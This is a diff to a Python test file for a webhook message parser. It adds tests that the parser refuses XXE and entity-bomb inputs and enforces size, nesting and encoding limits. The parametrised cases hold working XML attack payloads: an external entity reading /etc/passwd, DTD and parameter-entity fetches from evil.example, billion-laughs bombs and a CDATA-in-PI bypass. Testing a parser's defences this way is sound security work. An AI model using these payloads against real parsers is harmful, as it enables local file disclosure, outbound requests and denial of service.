@@ -45,32 +45,61 @@ def test_xml_values_may_or_may_not_be_cdata_and_order_is_free():
     assert a == b
 
 
+_DTD = "DTD and entity declarations are not accepted"
+
+
 @pytest.mark.parametrize(
-    "body",
+    "body, reason",
     [
         # classic XXE: external entity reading a local file
-        b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>',
+        (b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>', _DTD),
         # billion laughs
-        b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
-        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><xml><a>&lol3;</a></xml>',
-        # external DTD, lower case, after a comment
-        b'<!-- hi --><!doctype xml SYSTEM "http://evil.example/x.dtd"><xml/>',
+        (b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
+         b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><xml><a>&lol3;</a></xml>', _DTD),
+        # external DTD after a comment
+        (b'<!-- hi --><!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml/>', _DTD),
         # parameter entity
-        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><xml/>',
-        # a bare entity declaration
-        b"<xml><!ENTITY a 'b'></xml>",
-        # an encoding declaration cannot smuggle a DTD past the check (parsed as UTF-8)
-        b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-<xml/>',
+        (b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><xml/>', _DTD),
+        # the byte-scanner bypass: a CDATA opener inside a processing instruction hid the DTD
+        (b'<?x <![CDATA[ ?><!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa">]>'
+         b"<xml><Content>&a;&a;&a;</Content><!-- ]]> --></xml>", _DTD),
+        # a DTD after a processing instruction and a comment that mention CDATA
+        (b'<?pi ]]> ?><!-- <![CDATA[ --><!DOCTYPE xml [<!ENTITY a "b">]><xml/>', _DTD),
+        # not even well-formed: refused all the same, and nothing is ever expanded
+        (b'<!-- hi --><!doctype xml SYSTEM "http://evil.example/x.dtd"><xml/>', "malformed XML"),
+        (b"<xml><!ENTITY a 'b'></xml>", "malformed XML"),
+        # an encoding declaration cannot change how the body is read (always UTF-8)
+        (b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-<xml/>', "malformed XML"),
+        ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><xml>&a;</xml>'.encode("utf-16"),
+         _DTD),
     ],
-    ids=["xxe", "entity-bomb", "external-dtd", "parameter-entity", "entity-decl", "utf7"],
+    ids=["xxe", "entity-bomb", "external-dtd", "parameter-entity", "cdata-in-pi", "pi-and-comment",
+         "lowercase-doctype", "entity-decl-in-element", "utf7", "utf16"],
 )
-def test_dtds_and_entity_declarations_are_refused_before_parsing(body):
+def test_dtds_and_entity_declarations_are_refused_by_the_parser(body, reason):
     with pytest.raises(BadPush) as err:
         parse_fields(body, "xml")
     assert err.value.status == 400
-    assert err.value.reason in ("DTD and entity declarations are not accepted", "malformed XML")
-    if b"<!" in body and b"UTF-7" not in body:
-        assert err.value.reason == "DTD and entity declarations are not accepted"
+    assert err.value.reason == reason
+
+
+def test_an_entity_bomb_is_refused_at_once_and_expands_nothing():
+    """The reviewed attack: 879 KB that expanded to 77 MB. Now: refused where the DTD starts."""
+    import time
+
+    decls = b'<!ENTITY e0 "' + b"x" * 1000 + b'">' + b"".join(
+        b'<!ENTITY e%d "%s">' % (i, b"&e%d;" % (i - 1) * 10) for i in range(1, 8))
+    body = b'<?x <![CDATA[ ?><!DOCTYPE xml [' + decls + b"]><xml><Content>" + b"&e7;" * 200_000 + b"</Content></xml>"
+    assert len(body) > 800_000
+    started = time.perf_counter()
+    with pytest.raises(BadPush, match="DTD"):
+        parse_fields(body, "xml")
+    assert time.perf_counter() - started < 0.5  # generous: it stops at the DOCTYPE
+
+
+def test_predefined_entities_and_character_references_still_work():
+    body = b"<xml><Content>a &lt;b&gt; &amp; &#20320;&#x597D; &quot;&apos;</Content></xml>"
+    assert parse_fields(body, "xml") == {"Content": "a <b> & 你好 \"'"}
 
 
 def test_doctype_text_inside_cdata_is_just_text():
@@ -289,3 +318,83 @@ def test_dedup_keys_stay_under_500_chars():
 )
 def test_describe_gives_short_searchable_text(extra, text):
     assert describe({"FromUserName": "u", "CreateTime": 1, **extra}) == text
+
+
+# ------------------------------------------------------------------ limits (both formats)
+
+
+def _push(fmt: str, **fields) -> bytes:
+    base = {"ToUserName": "gh", "FromUserName": "oU", "CreateTime": 1, "MsgType": "text", "MsgId": 1}
+    return render_fields({**base, **fields}, fmt)
+
+
+@pytest.mark.parametrize("fmt", ["xml", "json"])
+def test_a_content_up_to_64_kib_is_kept_whole(fmt):
+    text = "你" * (65536 // 3)  # 65535 bytes of UTF-8
+    assert event_from(_push(fmt, Content=text))["Content"] == text
+
+
+@pytest.mark.parametrize("fmt", ["xml", "json"])
+@pytest.mark.parametrize("text", ["a" * 65537, "你" * 21846], ids=["ascii", "cjk"])
+def test_a_field_over_64_kib_is_refused_not_truncated(fmt, text):
+    with pytest.raises(BadPush) as err:
+        event_from(_push(fmt, Content=text))
+    assert err.value.status == 400 and err.value.reason == "field Content is longer than 65536 bytes"
+
+
+def test_a_huge_xml_field_is_refused_before_it_is_read_whole():
+    body = b"<xml><Content>" + b"a" * 5_000_000 + b"</Content></xml>"
+    with pytest.raises(BadPush, match="longer than 65536"):
+        parse_fields(body, "xml")
+
+
+@pytest.mark.parametrize("fmt", ["xml", "json"])
+def test_too_many_values_are_refused(fmt):
+    body = _push(fmt, Extra={"A": ["x"] * 5000})
+    with pytest.raises(BadPush, match="more than 4096 fields"):
+        event_from(body)
+
+
+@pytest.mark.parametrize("depth", [33, 900, 100_000])
+def test_deeply_nested_json_is_a_400_not_a_recursion_error(depth):
+    body = b'{"FromUserName":"o","MsgType":"text","CreateTime":1,"A":' + b"[" * depth + b"]" * depth + b"}"
+    with pytest.raises(BadPush) as err:
+        event_from(body)
+    assert err.value.reason in ("JSON is nested too deeply", "malformed JSON")
+
+
+@pytest.mark.parametrize("escaped", [r"\ud800", r"x\udfffy", r"\u0000", r"\udc00\ud800"])
+def test_lone_surrogates_and_nul_in_json_text_are_refused(escaped):
+    body = ('{"FromUserName":"o","MsgType":"text","CreateTime":1,"Content":"' + escaped + '"}').encode()
+    with pytest.raises(BadPush, match="NUL character or a lone surrogate"):
+        event_from(body)
+
+
+def test_a_surrogate_pair_is_an_ordinary_character():
+    body = rb'{"FromUserName":"o","MsgType":"text","CreateTime":1,"Content":"\ud83d\ude00"}'
+    assert event_from(body)["Content"] == "\U0001f600"
+
+
+def test_unstorable_keys_are_refused():
+    with pytest.raises(BadPush, match="key"):
+        event_from(rb'{"FromUserName":"o","MsgType":"text","CreateTime":1,"\ud800":1}')
+    with pytest.raises(BadPush, match="key is longer"):
+        event_from(('{"FromUserName":"o","MsgType":"text","CreateTime":1,"' + "k" * 200 + '":1}').encode())
+
+
+@pytest.mark.parametrize("fmt", ["xml", "json"])
+@pytest.mark.parametrize("field, width", [("FromUserName", 128), ("MsgType", 64), ("Event", 128), ("MsgId", 64)])
+def test_fields_with_a_column_of_their_own_fit_it(fmt, field, width):
+    assert event_from(_push(fmt, **{field: "x" * width}))[field] == "x" * width
+    with pytest.raises(BadPush, match=f"{field} is longer than {width} characters"):
+        event_from(_push(fmt, **{field: "x" * (width + 1)}))
+
+
+@pytest.mark.parametrize("value", [{"a": 1}, [1, 2]])
+@pytest.mark.parametrize("field", ["MsgId", "Event"])
+def test_fields_with_a_column_of_their_own_are_single_values(field, value):
+    """Found by the fuzz test: a JSON MsgId that is an object failed the store write (a 503)."""
+    body = render_fields({"ToUserName": "gh", "FromUserName": "oU", "CreateTime": 1, "MsgType": "event",
+                          field: value}, "json")
+    with pytest.raises(BadPush, match=f"{field} is not a single value"):
+        event_from(body)
